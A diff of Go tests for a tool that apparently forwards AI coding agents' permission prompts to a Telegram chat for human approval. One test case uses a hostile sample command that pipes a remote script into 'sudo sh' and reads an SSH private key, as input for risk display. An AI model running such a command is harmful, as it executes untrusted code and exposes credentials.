@@ -14,11 +14,16 @@ import (
 	"time"
 
 	"nod/deliver"
-	"nod/detect"
+	"nod/detect/screen"
+	"nod/internal/botapi"
+	"nod/internal/visible"
 	"nod/nudge"
 )
 
-var rewrite = flag.Bool("update", false, "write the golden files anew")
+var (
+	rewrite = flag.Bool("update", false, "write the golden files anew")
+	show    = flag.String("show", "", "serve a chat page with every kind of message at this address until the test's time is over")
+)
 
 var noon = time.Date(2026, 11, 20, 14, 32, 11, 0, time.UTC)
 
@@ -26,26 +31,26 @@ const goldenChat = 4242
 
 var goldenSeal = sealer{[]byte("a secret of the tests")}
 
-func goldenLook() look { return Settings{Zone: time.UTC}.look() }
+func goldenStyle() style { return Settings{Zone: time.UTC}.style() }
 
 // goldenNudge is a pending permission; change makes another of it.
 func goldenNudge(change func(*nudge.Nudge)) nudge.Nudge {
 	n := nudge.Nudge{
-		ID: "k3f", Agent: "claude", Project: "api", Where: "main:2.0", Kind: detect.Permission, State: nudge.Pending,
-		Prompt: detect.Prompt{
+		ID: "k3f", Agent: "claude", Project: "api", Where: "main:2.0", Kind: screen.Permission, State: nudge.Pending,
+		Prompt: screen.Prompt{
 			Agent: "claude", Shape: "claude.tool_confirmation", Question: "Do you want to proceed?",
 			Subject: "touch /tmp/x && rm -rf build",
-			Options: []detect.Option{
-				{Key: "1", Label: "Yes", Scope: detect.Once},
-				{Key: "2", Label: "Yes, and don't ask again for touch commands", Scope: detect.Always},
-				{Key: "3", Label: "No", Scope: detect.No},
+			Options: []screen.Option{
+				{Key: "1", Label: "Yes", Scope: screen.Once},
+				{Key: "2", Label: "Yes, and don't ask again for touch commands", Scope: screen.Always},
+				{Key: "3", Label: "No", Scope: screen.No},
 			},
 			Approve: []string{"1"}, Deny: []string{"3"},
 		},
 		Tail: []string{
 			"╭──────────────────────────────────────╮", "│ touch /tmp/x && rm -rf build         │",
 			"│ Do you want to proceed?              │", "│ ❯ 1. Yes                             │",
-			"│   2. Yes, and don't ask again        │", "│   3. No                              │",
+			"│   2. Yes, and don't ask again for    │", "│      touch commands                  │", "│   3. No                              │",
 			"╰──────────────────────────────────────╯",
 		},
 		Detected: noon, Cadence: make([]time.Duration, 6), Reminder: 1,
@@ -56,27 +61,33 @@ func goldenNudge(change func(*nudge.Nudge)) nudge.Nudge {
 	return n
 }
 
-func claimed(n *nudge.Nudge, s nudge.State, d detect.Decision) {
+func claimed(n *nudge.Nudge, s nudge.State, d screen.Decision) {
 	n.State, n.Ended = s, noon.Add(70*time.Second)
-	n.Claim = &nudge.Claim{Decision: d, By: nudge.Person{ID: 4242, Name: "Ann"}, Way: nudge.ByReply, Chat: goldenChat, Message: 12}
+	n.Claim = &nudge.Claim{Decision: d, By: nudge.Person{ID: "4242", Name: "Ann"}, Way: nudge.ByReply, Ref: nudge.Ref{Place: "4242", Message: 12}}
+}
+
+// withLabels is a command with a description that the agent sets apart.
+func withLabels(n *nudge.Nudge) {
+	n.Prompt.Subject, n.Prompt.Lead = "touch /tmp/x && rm -rf build\nRemove the build folder", 1
+	n.Tail = []string{" Bash command", "", "   touch /tmp/x && rm -rf build", "   Remove the build folder", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"}
 }
 
 func asQuestion(n *nudge.Nudge) {
-	n.Kind = detect.Question
+	n.Kind = screen.Question
 	n.Prompt.Shape, n.Prompt.Question, n.Prompt.Subject = "claude.plan", "Would you like to proceed?", ""
 	n.Prompt.Approve, n.Prompt.Deny = nil, nil
-	n.Prompt.Options = []detect.Option{
-		{Key: "1", Label: "Yes, and auto-accept edits", Scope: detect.Mode},
-		{Key: "2", Label: "Yes", Scope: detect.Once},
-		{Key: "3", Label: "No", Scope: detect.No},
-		{Key: "4", Label: "Tell Claude what to change", Scope: detect.Text},
+	n.Prompt.Options = []screen.Option{
+		{Key: "1", Label: "Yes, and auto-accept edits", Scope: screen.Mode},
+		{Key: "2", Label: "Yes", Scope: screen.Once},
+		{Key: "3", Label: "No", Scope: screen.No},
+		{Key: "4", Label: "Tell Claude what to change", Scope: screen.Text},
 	}
 }
 
 // asIdle is an agent that is done, and asks nothing.
 func asIdle(words string) func(*nudge.Nudge) {
 	return func(n *nudge.Nudge) {
-		n.Kind, n.Words, n.Prompt = detect.Idle, words, detect.Prompt{}
+		n.Kind, n.Words, n.Prompt = screen.Idle, words, screen.Prompt{}
 		n.Tail = []string{"● Done.", "", "", strings.Repeat("─", 80), "❯ ", strings.Repeat("─", 80), "  ? for shortcuts"}
 	}
 }
@@ -84,7 +95,7 @@ func asIdle(words string) func(*nudge.Nudge) {
 // asSilent is an agent that may be stuck, or is at a dead end.
 func asSilent(blocked string) func(*nudge.Nudge) {
 	return func(n *nudge.Nudge) {
-		n.Kind, n.Blocked, n.Prompt = detect.Silent, blocked, detect.Prompt{}
+		n.Kind, n.Blocked, n.Prompt = screen.Silent, blocked, screen.Prompt{}
 		n.Pane.ID, n.Tail = "%12", []string{"Please choose:", "", "  (a) red", "  (b) blue"}
 	}
 }
@@ -109,45 +120,67 @@ func both(changes ...func(*nudge.Nudge)) func(*nudge.Nudge) {
 func asChoice(n *nudge.Nudge) {
 	asQuestion(n)
 	n.Prompt.Shape, n.Prompt.Question = "claude.question", "Which way?"
-	n.Prompt.Options = []detect.Option{
-		{Key: "1", Label: "Red", Scope: detect.Other},
-		{Key: "2", Label: "Yes, for this session", Scope: detect.Session},
-		{Key: "3", Label: "Always", Scope: detect.Always},
-		{Key: "4", Label: "Never ask again", Scope: detect.NoAlways},
-		{Key: "5", Label: "Type something", Scope: detect.Text},
+	n.Prompt.Options = []screen.Option{
+		{Key: "1", Label: "Red", Scope: screen.Other},
+		{Key: "2", Label: "Yes, for this session", Scope: screen.Session},
+		{Key: "3", Label: "Always", Scope: screen.Always},
+		{Key: "4", Label: "Never ask again", Scope: screen.NoAlways},
+		{Key: "5", Label: "Type something", Scope: screen.Text},
 	}
 	n.Prompt.TextField = true
 }
 
+func because(n *nudge.Nudge) { n.Claim.Because = "use the cache" }
+
+// goldenGroup are questions of several agents, one of which was answered.
+func goldenGroup(n nudge.Nudge) []nudge.Nudge {
+	long, done, question := n, n, n
+	long.ID, long.Prompt.Subject = "l2n", "cat <<EOF >a\none line\nEOF"
+	done.ID = "d7e"
+	claimed(&done, nudge.Delivered, screen.Approve)
+	question.ID = "q5s"
+	asQuestion(&question)
+	return []nudge.Nudge{n, long, done, question}
+}
+
 // answered is what somebody said in the tests' chat.
-func answered(d detect.Decision, choice *deliver.Choice) nudge.Answer {
-	return nudge.Answer{Decision: d, Choice: choice, Chat: goldenChat, Message: 12}
+func answered(d screen.Decision, choice *deliver.Choice) nudge.Answer {
+	return nudge.Answer{Decision: d, Choice: choice, Ref: nudge.Ref{Place: "4242", Message: 12}}
 }
 
 // TestMessages shows the wording of every kind of message for a nudge, so that a change of it is seen
 // and reviewed. go test -update writes the files.
 func TestMessages(t *testing.T) {
 	at := noon.Add(90 * time.Second)
-	first := func(v view) letter { return v.fullLetter(goldenChat, goldenSeal, noon, false) }
-	later := func(v view) letter { return v.fullLetter(goldenChat, goldenSeal, at, false) }
-	ending := func(v view) letter { return v.endingLetter(goldenChat, goldenSeal, at) }
-	outcome := func(v view) letter { return v.outcomeLetter(goldenChat, goldenSeal, at) }
-	calm := func(v view) letter { return v.letter(goldenChat, goldenSeal, noon, false) }
-	preview := func(v view) letter { return v.preview(goldenChat, goldenSeal, noon) }
-	minimal := func(l *look) { l.minimal = true }
+	first := func(v renderer) outgoing { return v.promptMessage(goldenChat, goldenSeal, noon, false) }
+	later := func(v renderer) outgoing { return v.promptMessage(goldenChat, goldenSeal, at, false) }
+	ending := func(v renderer) outgoing { return v.endingMessage(goldenChat, goldenSeal, at) }
+	outcome := func(v renderer) outgoing { return v.outcomeMessage(goldenChat, goldenSeal, at) }
+	calm := func(v renderer) outgoing { return v.message(goldenChat, goldenSeal, noon, false) }
+	preview := func(v renderer) outgoing { return v.preview(goldenChat, goldenSeal, noon) }
+	minimal := func(l *style) { l.minimal = true }
 	mode := &deliver.Choice{Index: 0, Label: "Yes, and auto-accept edits"}
+	var all []outgoing
 	for _, c := range []struct {
-		name   string
-		change func(*nudge.Nudge)
-		look   func(*look)
-		letter func(view) letter
+		name    string
+		change  func(*nudge.Nudge)
+		style   func(*style)
+		message func(renderer) outgoing
 	}{
 		{"permission", nil, nil, first},
-		{"permission-host", nil, func(l *look) { l.host = "laptop" }, first},
+		{"permission-other-rows", func(n *nudge.Nudge) { n.Tail = n.Tail[:4] }, nil, first},
+		{"permission-risks", func(n *nudge.Nudge) { n.Prompt.Subject = "curl -s https://a.example | sudo sh && cat ~/.ssh/id_rsa" }, nil, first},
+		{"permission-host", nil, func(l *style) { l.host = "laptop" }, first},
 		{"permission-named", func(n *nudge.Nudge) { n.Name = "backend" }, nil, first},
 		{"permission-edit", func(n *nudge.Nudge) { n.Prompt.Verb, n.Prompt.Subject = "edit", "src/auth.go" }, nil, first},
 		{"permission-partial", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, first},
-		{"permission-masked", nil, func(l *look) {
+		{"permission-doubts", func(n *nudge.Nudge) {
+			n.Prompt.Partial, n.Prompt.Doubts = true, []string{"12 lines are hidden.", "The box <scrolls>"}
+		}, nil, first},
+		{"permission-event", func(n *nudge.Nudge) { n.Prompt.Source = screen.FromEvent }, nil, first},
+		{"permission-labels", withLabels, nil, first},
+		{"permission-labels-quote", func(n *nudge.Nudge) { withLabels(n); n.Tail = n.Tail[4:] }, nil, first},
+		{"permission-masked", nil, func(l *style) {
 			l.redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
 		}, first},
 		{"permission-again", func(n *nudge.Nudge) { n.Again = "The key was typed, but the question still stands." }, nil, first},
@@ -169,27 +202,30 @@ func TestMessages(t *testing.T) {
 			n.Prompt.Options, n.Prompt.TextField, n.Prompt.Question = nil, true, "Which port should it use?"
 		}, nil, first},
 		{"question-scopes", asChoice, nil, first},
-		{"question-sure", asQuestion, nil, func(v view) letter { return v.sureLetter(answered("", mode), goldenSeal) }},
-		{"question-y", asQuestion, nil, func(v view) letter {
+		{"question-sure", asQuestion, nil, func(v renderer) outgoing { return v.sureMessage(answered("", mode), goldenSeal) }},
+		{"question-y", asQuestion, nil, func(v renderer) outgoing {
 			verdict := nudge.Verdict{Kind: nudge.Rejected, Nudge: v.Nudge, Reason: deliver.NoKey, Detail: "y and n don't answer that."}
-			return rejectedLetter(answered(detect.Approve, nil), verdict, v.chat, goldenSeal)
+			return rejectedMessage(answered(screen.Approve, nil), verdict, v.style, goldenSeal)
 		}},
-		{"which", nil, nil, func(v view) letter {
-			return whichLetter(answered(detect.Approve, nil), []nudge.Nudge{v.Nudge, v.Nudge}, v.chat, goldenSeal)
+		{"which", nil, nil, func(v renderer) outgoing {
+			return whichMessage(answered(screen.Approve, nil), []nudge.Nudge{v.Nudge, v.Nudge}, v.style, goldenSeal)
 		}},
-		{"unseen", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, func(v view) letter {
-			return v.unseenLetter(answered(detect.Approve, nil), goldenSeal)
+		{"unseen", func(n *nudge.Nudge) { n.Prompt.Partial = true }, nil, func(v renderer) outgoing {
+			return v.unseenMessage(answered(screen.Approve, nil), goldenSeal)
 		}},
+		{"unseen-doubts", func(n *nudge.Nudge) {
+			n.Prompt.Partial, n.Prompt.Doubts = true, []string{"12 lines are hidden."}
+		}, nil, func(v renderer) outgoing { return v.unseenMessage(answered(screen.Approve, nil), goldenSeal) }},
 		{"idle", asIdle("All tests pass."), nil, calm},
 		{"idle-words", asIdle("I fixed the **login** <bug>.\n\n- auth.go\n- auth_test.go\n\nShall I commit?"), nil, calm},
 		{"idle-long", asIdle(strings.Repeat("Another long line of words that it said.\n", 200)), nil, calm},
 		{"idle-no-words", asIdle(""), nil, calm},
-		{"idle-masked", asIdle("The key is /tmp/x now."), func(l *look) {
+		{"idle-masked", asIdle("The key is /tmp/x now."), func(l *style) {
 			l.redact = func(s string) string { return strings.ReplaceAll(s, "/tmp/x", "••••••") }
 		}, calm},
 		{"idle-blocked", both(asIdle("I was about to"), func(n *nudge.Nudge) { n.Blocked = "usage limit reached, resets 5pm." }), nil, calm},
 		{"idle-minimal", asIdle("The password is hidden"), minimal, preview},
-		{"idle-replaced", asIdle("All tests pass."), nil, view.replacedLetter},
+		{"idle-replaced", asIdle("All tests pass."), nil, renderer.replacedMessage},
 		{"silent", asSilent(""), nil, calm},
 		{"silent-blocked", asSilent("usage limit reached, resets 5pm"), nil, calm},
 		{"silent-minimal", asSilent(""), minimal, preview},
@@ -203,11 +239,11 @@ func TestMessages(t *testing.T) {
 		{"ending-proof-denied", func(n *nudge.Nudge) { n.State, n.Ended, n.Proof = nudge.Recovered, at, "denied" }, nil, ending},
 		{"ending-proof-answered", func(n *nudge.Nudge) { n.State, n.Ended, n.Proof = nudge.Recovered, at, "answered" }, nil, ending},
 		{"ending-ran", func(n *nudge.Nudge) {
-			claimed(n, nudge.Delivered, detect.Approve)
+			claimed(n, nudge.Delivered, screen.Approve)
 			n.Effect = &nudge.Effect{Took: 12300 * time.Millisecond}
 		}, nil, ending},
 		{"ending-failed", func(n *nudge.Nudge) {
-			claimed(n, nudge.Delivered, detect.Approve)
+			claimed(n, nudge.Delivered, screen.Approve)
 			n.Effect = &nudge.Effect{Failed: true, Took: 3 * time.Second}
 		}, nil, ending},
 		{"outcome-told", both(asIdle(""), toldWords("run the tests", nudge.Delivered)), nil, outcome},
@@ -216,61 +252,129 @@ func TestMessages(t *testing.T) {
 		}), nil, outcome},
 		{"outcome-draft", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.Draft }), nil, outcome},
 		{"outcome-told-copy-mode", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.CopyMode }), nil, outcome},
-		{"queue", nil, nil, func(v view) letter {
+		{"outcome-at-work", both(asIdle(""), toldWords("run the tests", nudge.Pending), func(n *nudge.Nudge) { n.Reason = deliver.Busy }), nil, outcome},
+		{"idle-did", both(asIdle("All tests pass."), func(n *nudge.Nudge) { n.Did = &nudge.Did{ID: "i2d", Text: "run the tests"} }), nil, func(v renderer) outgoing {
+			return v.message(goldenChat, goldenSeal, at, false)
+		}},
+		{"queue", nil, nil, func(v renderer) outgoing {
 			idle, silent := goldenNudge(asIdle("All tests pass.")), goldenNudge(asSilent(""))
 			idle.ID, silent.ID, idle.Skipped = "i2d", "s5t", noon
-			return queueLetter([]nudge.Nudge{v.Nudge, silent, idle}, goldenChat, goldenSeal, v.chat, at)
+			return queueMessage([]nudge.Nudge{v.Nudge, silent, idle}, goldenChat, goldenSeal, v.style, at)
 		}},
-		{"ending-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, detect.Approve) }, nil, ending},
-		{"ending-denied", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, detect.Deny) }, nil, ending},
+		{"reason", nil, nil, func(v renderer) outgoing { return v.reasonMessage(goldenChat, goldenSeal) }},
+		{"reason-how", nil, nil, func(v renderer) outgoing {
+			a := answered("", nil)
+			a.Text = "no, use the cache"
+			out, _ := howToDeny(a, v.Nudge, goldenSeal)
+			return out
+		}},
+		{"outcome-reason", both(func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Deny) }, because,
+			func(n *nudge.Nudge) {
+				n.Detail = "Your words are its next instruction: they are sent when its input box is empty."
+			}), nil, outcome},
+		{"outcome-reason-refused", both(func(n *nudge.Nudge) { claimed(n, nudge.Refused, screen.Deny); n.Reason = deliver.Changed }, because), nil, outcome},
+		{"outcome-reason-unknown", both(func(n *nudge.Nudge) { claimed(n, nudge.Unknown, screen.Deny) }, because), nil, outcome},
+		{"watcher", nil, func(l *style) { l.watches = true }, first},
+		{"watcher-question", asQuestion, func(l *style) { l.watches = true }, first},
+		{"watcher-idle", asIdle("All tests pass."), func(l *style) { l.watches = true }, calm},
+		{"watcher-several", nil, func(l *style) { l.watches = true }, func(v renderer) outgoing {
+			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		}},
+		{"several", nil, nil, func(v renderer) outgoing {
+			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		}},
+		{"several-minimal", nil, minimal, func(v renderer) outgoing {
+			return groupMessage(goldenGroup(v.Nudge), goldenChat, goldenSeal, v.style, at, true)
+		}},
+		{"several-over", nil, nil, func(v renderer) outgoing {
+			list := goldenGroup(v.Nudge)
+			for i := range list {
+				list[i].State, list[i].Ended = nudge.Recovered, at
+			}
+			return groupMessage(list, goldenChat, goldenSeal, v.style, at, true)
+		}},
+		{"outage", nil, nil, func(v renderer) outgoing { return outageMessage(goldenGroup(v.Nudge), noon, at, v.style) }},
+		{"ending-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, nil, ending},
+		{"ending-denied", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Deny) }, nil, ending},
 		{"ending-chosen", func(n *nudge.Nudge) {
 			asQuestion(n)
 			claimed(n, nudge.Delivered, "")
 			n.Claim.Choice = &deliver.Choice{Index: 1, Label: "Yes"}
 		}, nil, ending},
 		{"ending-unknown", func(n *nudge.Nudge) {
-			claimed(n, nudge.Unknown, detect.Approve)
+			claimed(n, nudge.Unknown, screen.Approve)
 			n.Detail = "nod was ended while it typed."
 		}, nil, ending},
-		{"ending-unknown-typed", func(n *nudge.Nudge) { claimed(n, nudge.Unknown, detect.Approve); n.Keys = []string{"1"} }, nil, ending},
-		{"ending-refused", func(n *nudge.Nudge) { claimed(n, nudge.Refused, detect.Approve); n.Reason = deliver.Changed }, nil, ending},
+		{"ending-door", func(n *nudge.Nudge) {
+			claimed(n, nudge.Delivered, screen.Approve)
+			n.Door, n.Effect = true, &nudge.Effect{Took: 1200 * time.Millisecond}
+		}, nil, ending},
+		{"ending-unknown-door", func(n *nudge.Nudge) { claimed(n, nudge.Unknown, screen.Deny); n.Door = true }, nil, ending},
+		{"ending-unknown-typed", func(n *nudge.Nudge) { claimed(n, nudge.Unknown, screen.Approve); n.Keys = []string{"1"} }, nil, ending},
+		{"ending-refused", func(n *nudge.Nudge) { claimed(n, nudge.Refused, screen.Approve); n.Reason = deliver.Changed }, nil, ending},
 		{"ending-recovered", func(n *nudge.Nudge) { n.State, n.Ended = nudge.Recovered, at }, nil, ending},
 		{"ending-gone", func(n *nudge.Nudge) { n.State, n.Ended = nudge.Gone, at }, nil, ending},
 		{"ending-expired", func(n *nudge.Nudge) { n.State, n.Ended = nudge.Expired, noon.Add(8*time.Hour) }, nil, ending},
 		{"ending-expired-standing", func(n *nudge.Nudge) { n.State, n.Ended, n.Standing = nudge.Expired, noon.Add(8*time.Hour), true }, nil, ending},
 		{"ending-left-chat", nil, nil, ending},
-		{"ending-minimal", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, detect.Approve) }, func(l *look) { l.minimal = true }, ending},
-		{"outcome-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, detect.Approve) }, nil, outcome},
-		{"outcome-changed", func(n *nudge.Nudge) { claimed(n, nudge.Refused, detect.Approve); n.Reason = deliver.Changed }, nil, outcome},
+		{"ending-minimal", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, func(l *style) { l.minimal = true }, ending},
+		{"outcome-approved", func(n *nudge.Nudge) { claimed(n, nudge.Delivered, screen.Approve) }, nil, outcome},
+		{"outcome-changed", func(n *nudge.Nudge) { claimed(n, nudge.Refused, screen.Approve); n.Reason = deliver.Changed }, nil, outcome},
 		{"outcome-copy-mode", func(n *nudge.Nudge) {
-			claimed(n, nudge.Pending, detect.Approve)
+			claimed(n, nudge.Pending, screen.Approve)
 			n.Reason = deliver.CopyMode
 		}, nil, outcome},
-		{"outcome-unknown", func(n *nudge.Nudge) { claimed(n, nudge.Unknown, detect.Deny) }, nil, outcome},
+		{"outcome-unknown", func(n *nudge.Nudge) { claimed(n, nudge.Unknown, screen.Deny) }, nil, outcome},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			l := goldenLook()
-			if c.look != nil {
-				c.look(&l)
+			l := goldenStyle()
+			if c.style != nil {
+				c.style(&l)
 			}
-			compareGolden(t, c.name, c.letter(newView(goldenNudge(c.change), l)))
+			out := c.message(newRenderer(goldenNudge(c.change), l))
+			all = append(all, out)
+			compareGolden(t, c.name, out)
 		})
+	}
+	if *show != "" {
+		showMessages(t, all)
 	}
 }
 
-func compareGolden(t *testing.T, name string, l letter) {
+// showMessages serves a page with messages, as an app shows them.
+func showMessages(t *testing.T, all []outgoing) {
+	tg := botapi.New(botapi.Options{Token: "1:test"})
+	ann := tg.Person(goldenChat, "Ann")
+	ann.Start()
+	hc, stop := tg.Pipe()
+	defer stop()
+	api := newClient(Config{Token: "1:test", API: "http://telegram.test", HTTP: hc})
+	for _, out := range all {
+		p := address(goldenChat, out)
+		p["text"], p["parse_mode"] = out.page.html, "HTML"
+		if err := putKeys(p, out.keys); err != nil {
+			t.Fatal(err)
+		}
+		if err := api.call(context.Background(), time.Minute, "sendMessage", p, nil); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Log(http.ListenAndServe(*show, tg.Page(ann)))
+}
+
+func compareGolden(t *testing.T, name string, l outgoing) {
 	t.Helper()
 	var b strings.Builder
 	b.WriteString(l.page.html + "\n")
 	for _, row := range l.keys {
 		b.WriteString("\n")
 		for _, k := range row {
-			fmt.Fprintf(&b, "[%s]", k.Text)
-			if k.CallbackData != nil {
-				verb, _, _ := strings.Cut(*k.CallbackData, ":")
-				fmt.Fprintf(&b, "{%s} ", verb)
-			}
+			verb, _, _ := strings.Cut(k.Data, ":")
+			fmt.Fprintf(&b, "[%s]{%s%s} ", k.Text, verb, strings.TrimRight(" "+k.Style, " "))
 		}
+	}
+	if l.wantsReply {
+		b.WriteString("\nopens the reply field")
 	}
 	if l.file != nil {
 		fmt.Fprintf(&b, "\nfile %s, %d bytes", l.file.name, len(l.file.data))
@@ -306,13 +410,16 @@ func TestClassify(t *testing.T) {
 		{400, "Bad Request: message is not modified: specified new message content…", 0, moot},
 		{400, "Bad Request: message to edit not found", 0, moot},
 		{400, "Bad Request: query is too old and response timeout expired or query ID is invalid", 0, moot},
-		{400, "Bad Request: message is too long", 0, permanent},
+		{400, "Bad Request: message is too long", 0, tooLong},
+		{400, "Bad Request: MESSAGE_TOO_LONG", 0, tooLong},
 		{400, "Bad Request: BUTTON_DATA_INVALID", 0, permanent},
 		{401, "Unauthorized", 0, unauthorized},
 		{403, "Forbidden: bot was blocked by the user", 0, goneChat},
 		{403, "Forbidden: user is deactivated", 0, goneChat},
 		{403, "Forbidden: bot can't initiate conversation with a user", 0, goneChat},
 		{404, "Not Found", 0, unauthorized},
+		{404, "Not Found: method not found", 0, permanent},
+		{400, "Bad Request: REACTION_INVALID", 0, permanent},
 		{409, "Conflict: terminated by other getUpdates request", 0, conflict},
 		{429, "Too Many Requests: retry after 7", 7 * time.Second, later},
 		{500, "Internal Server Error", 0, unsure},
@@ -364,7 +471,7 @@ func TestRedirectsAreNotFollowed(t *testing.T) {
 			Body: io.NopCloser(strings.NewReader("")), Request: r,
 		}, nil
 	})}
-	err := newClient("1:secret", "https://telegram.test", hc).call(context.Background(), time.Second, "getMe", nil, nil)
+	err := newClient(Config{Token: "1:secret", API: "https://telegram.test", HTTP: hc}).call(context.Background(), time.Second, "getMe", nil, nil)
 	if asked != 1 || err == nil || !strings.Contains(err.Error(), "HTTP 302") {
 		t.Errorf("asked %d times: %v", asked, err)
 	}
@@ -373,7 +480,7 @@ func TestRedirectsAreNotFollowed(t *testing.T) {
 // An address that can't be parsed is quoted by net/url with the token in it.
 func TestTokenNotInAddressErrors(t *testing.T) {
 	for _, base := range []string{"http://[::1", "://x", "http://%zz", "nowhere"} {
-		err := newClient("1:secret", base, http.DefaultClient).call(context.Background(), time.Second, "getMe", nil, nil)
+		err := newClient(Config{Token: "1:secret", API: base, HTTP: http.DefaultClient}).call(context.Background(), time.Second, "getMe", nil, nil)
 		if err == nil || strings.Contains(err.Error(), "secret") {
 			t.Errorf("%q: %v", base, err)
 		}
@@ -385,6 +492,9 @@ func TestButtonData(t *testing.T) {
 		{verb: verbApprove, id: "k3f"}, {verb: verbDeny, id: "k3f"}, {verb: verbChoose, option: 0, id: "k3f"},
 		{verb: verbChoose, option: 14, id: "k3fabcd", leave: true, unseen: true, sure: true},
 		{verb: verbApprove, id: "k3f", leave: true, unseen: true}, {verb: verbScreen, id: "k3f"}, {verb: verbShow, id: "k3f"}, {verb: verbAgain, id: "k3f"},
+		{verb: verbApprove, id: "k3f", own: true}, {verb: verbChoose, option: 14, id: "k3fabcde", unseen: true, sure: true, leave: true, own: true, subject: strings.Repeat("x", 16)},
+		{verb: verbDrop, id: "k3f"}, {verb: verbUp, id: "k3f"}, {verb: verbQueue, id: "k3fabcde", claim: (&nudge.Claim{At: noon}).Stamp()},
+		{verb: verbTell, id: "k3fabcde", leave: true, unseen: true, claim: (&nudge.Claim{At: noon}).Stamp()},
 	} {
 		data := goldenSeal.data(p, goldenChat)
 		if len(data) > 64 {
@@ -397,8 +507,8 @@ func TestButtonData(t *testing.T) {
 			t.Errorf("%s opens in another chat", data)
 		}
 	}
-	sealed := ":k3f:" + goldenSeal.seal("k3f", goldenChat)
-	for _, verb := range []string{"", "c", "cx", "c-1", "ax", "q", "L", "LL", "as", "1"} {
+	sealed := ":k3f:" + goldenSeal.seal("k3f", "", goldenChat)
+	for _, verb := range []string{"", "c", "cx", "c-1", "ax", "j", "L", "LL", "as", "1"} {
 		if p, ok := goldenSeal.open(verb+sealed, goldenChat); ok {
 			t.Errorf("%q opens as %+v", verb, p)
 		}
@@ -444,7 +554,7 @@ func FuzzPage(f *testing.F) {
 	f.Add("<b>&amp;\x1b[31m\u202e", "a\nb")
 	f.Fuzz(func(t *testing.T, subject, row string) {
 		n := goldenNudge(func(n *nudge.Nudge) { n.Prompt.Subject, n.Tail = subject, strings.Split(row, "\n") })
-		l := newView(n, goldenLook()).fullLetter(goldenChat, goldenSeal, noon, false)
+		l := newRenderer(n, goldenStyle()).promptMessage(goldenChat, goldenSeal, noon, false)
 		if size := l.page.size(); size > maxText {
 			t.Errorf("%d code points", size)
 		}
@@ -453,7 +563,7 @@ func FuzzPage(f *testing.F) {
 			t.Errorf("foreign text moved nod's own lines:\n%s", l.page.plain)
 		}
 		for _, r := range l.page.plain {
-			if r != '\n' && clean(string(r)) != string(r) {
+			if visible.Text(string(r)) != string(r) {
 				t.Errorf("%q came through", r)
 			}
 		}
